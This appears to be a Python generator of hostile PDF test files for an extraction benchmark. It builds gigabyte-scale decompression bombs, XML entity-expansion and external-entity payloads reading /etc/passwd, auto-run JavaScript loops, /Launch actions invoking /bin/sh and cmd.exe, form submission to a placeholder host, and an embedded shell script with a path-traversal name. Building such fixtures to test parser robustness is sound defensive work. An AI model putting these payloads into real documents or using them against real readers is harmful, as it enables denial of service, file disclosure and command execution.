"""PDF streams that unpack to far more than they are, and documents that ask for something."""

from __future__ import annotations

import zlib
from collections.abc import Iterator
from functools import partial

from benchmarks.extraction.hostile.broken import Made
from benchmarks.extraction.hostile.objects import SHOWN, one_page, page, showing, stream
from benchmarks.extraction.hostile.packing import GIB, deflated, lzw, run_lengths

_FLATE = b"/Filter /FlateDecode"


def files() -> Iterator[Made]:
    """The files, by name."""
    yield "bomb-zeros.pdf", lambda: showing(deflated(b"\0", GIB), _FLATE)
    yield "bomb-text.pdf", lambda: showing(deflated(SHOWN + b"\n", GIB // 4), _FLATE)
    yield "bomb-text-small.pdf", lambda: showing(deflated(SHOWN + b"\n", GIB // 100), _FLATE)
    yield "bomb-saves.pdf", lambda: showing(deflated(b"q ", GIB // 4), _FLATE)
    yield "bomb-string.pdf", lambda: showing(deflated(b"(a", GIB // 8), _FLATE)
    yield (
        "bomb-in-bomb.pdf",
        lambda: showing(
            zlib.compress(deflated(b"\0", GIB), 9), b"/Filter [/FlateDecode /FlateDecode]"
        ),
    )
    yield (
        "bomb-in-ten.pdf",
        lambda: showing(
            _packed(deflated(b"\0", GIB), 9), b"/Filter [%s]" % (b"/FlateDecode " * 10)
        ),
    )
    yield "bomb-on-third-page.pdf", _third
    yield "bomb-lzw.pdf", lambda: showing(lzw(GIB // 2), b"/Filter /LZWDecode")
    yield "bomb-runs.pdf", lambda: showing(run_lengths(b"q", GIB // 8), b"/Filter /RunLengthDecode")
    yield (
        "bomb-chain.pdf",
        lambda: showing(
            zlib.compress(deflated(b"\x81 ", GIB // 8).hex().encode() + b">", 9),
            b"/Filter [/FlateDecode /ASCIIHexDecode /FlateDecode /RunLengthDecode]",
        ),
    )
    yield (
        "filters-1000.pdf",
        lambda: showing(SHOWN.hex().encode(), b"/Filter [%s]" % (b"/ASCIIHexDecode " * 1000)),
    )
    yield "filter-unknown.pdf", lambda: showing(SHOWN, b"/Filter /KissaDecode")
    yield "filter-circle.pdf", lambda: showing(SHOWN, b"/Filter 4 0 R")
    yield (
        "filter-predictor.pdf",
        lambda: showing(
            zlib.compress(SHOWN),
            _FLATE + b" /DecodeParms << /Predictor 15 /Columns 2147483647 /Colors 999 >>",
        ),
    )
    yield "flate-cut.pdf", lambda: showing(zlib.compress(SHOWN * 50)[:-20], _FLATE)
    yield "flate-wrong-sum.pdf", lambda: showing(zlib.compress(SHOWN)[:-4] + b"\0\0\0\0", _FLATE)
    yield "flate-garbage.pdf", lambda: showing(b"\x78\x9c" + b"\xab" * 500, _FLATE)
    yield "stream-empty.pdf", lambda: showing(b"")
    yield "metadata-bomb.pdf", lambda: _metadata(deflated(b"<a>", GIB // 4), _FLATE)
    yield "metadata-entities.pdf", lambda: _metadata(_ENTITIES, b"")
    yield "metadata-outside.pdf", lambda: _metadata(_OUTSIDE, b"")
    yield "title-huge.pdf", lambda: one_page({6: b"<< /Title (%s) >>" % (b"otsikko " * 500_000)})
    for name, catalog in _ASKING.items():
        yield f"asks-{name}.pdf", partial(one_page, _ACTIONS, catalog)


_ENTITIES = (
    b'<!DOCTYPE x [<!ENTITY a "kissa">'
    + b"".join(
        b'<!ENTITY %c "%s">' % (97 + at, b"&%c;" % (96 + at) * 10) for at in range(1, 10)
    )
    + b"]><x>&j;</x>"
)  # fmt: skip
_OUTSIDE = (
    b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd"><!ENTITY b SYSTEM'
    b' "http://ei.invalid/x">]><x>&a;&b;</x>'
)

_ACTIONS = {
    6: b"<< /S /JavaScript /JS (while \\(true\\) { app.alert\\('x'\\); }) /Next 6 0 R >>",
    7: b"<< /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c calc) >> /Next 8 0 R >>",
    8: b"<< /S /URI /URI (http://ei.invalid/) /Next 7 0 R >>",
    9: b"<< /S /SubmitForm /F (http://ei.invalid/) /Flags 4 >>",
    10: b"<< /S /GoToE /F (ulos.pdf) /T << /R /C /N (a) /T 10 0 R >> >>",
    11: b"<< /Type /Filespec /F (../../../tmp/ulos.sh) /EF << /F 12 0 R >> >>",
    12: stream(b"#!/bin/sh\necho ulos\n", b"/Type /EmbeddedFile"),
    13: b"<< /XFA [(template) 14 0 R (datasets) 14 0 R] /Fields [] >>",
    14: stream(
        b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><xdp:xdp'
        b' xmlns:xdp="http://ns.adobe.com/xdp/"><x>&a;</x><script>while(1);</script></xdp:xdp>'
    ),
    15: stream(b"", b"/F << /FS /URL /F (http://ei.invalid/sivu) >>"),
    16: b"<< /S /ImportData /F (/etc/passwd) >>",
}
_ASKING = {
    "javascript": b"/OpenAction 6 0 R /AA << /WC 6 0 R /WS 6 0 R >>",
    "javascript-names": b"/Names << /JavaScript << /Names [(a) 6 0 R (b) 6 0 R] >> >>",
    "launch": b"/OpenAction 7 0 R",
    "uri": b"/OpenAction 8 0 R /URI << /Base (http://ei.invalid/) >>",
    "submit": b"/OpenAction 9 0 R",
    "other-file": b"/OpenAction 10 0 R",
    "attached": b"/Names << /EmbeddedFiles << /Names [(../../ulos.sh) 11 0 R] >> >> /AF [11 0 R]",
    "xfa": b"/AcroForm 13 0 R /NeedsRendering true",
    "data": b"/OpenAction 16 0 R",
}


def _packed(content: bytes, times: int) -> bytes:
    for _ in range(times):
        content = zlib.compress(content, 9)
    return content


def _third() -> bytes:
    """Five pages, the third of which is a bomb."""
    pages, contents = range(10, 15), {}
    for number in pages:
        lines = b"".join(
            b"(Luku %d, kohta %d: hanke jatkuu.) ' " % (number, row) for row in range(9)
        )
        contents[number + 10] = stream(b"BT /F1 12 Tf 14 TL 72 720 Td %s ET" % lines)
    contents[22] = stream(
        zlib.compress(deflated(b"\0", GIB), 9), b"/Filter [/FlateDecode /FlateDecode]"
    )
    kids = b" ".join(b"%d 0 R" % number for number in pages)
    made = {n: page().replace(b"/Contents 4", b"/Contents %d" % (n + 10)) for n in pages}
    return one_page({2: b"<< /Type /Pages /Kids [%s] /Count 5 >>" % kids, **made, **contents})


def _metadata(content: bytes, entries: bytes) -> bytes:
    head = b"/Type /Metadata /Subtype /XML " + entries
    return one_page({6: stream(content, head)}, b"/Metadata 6 0 R")
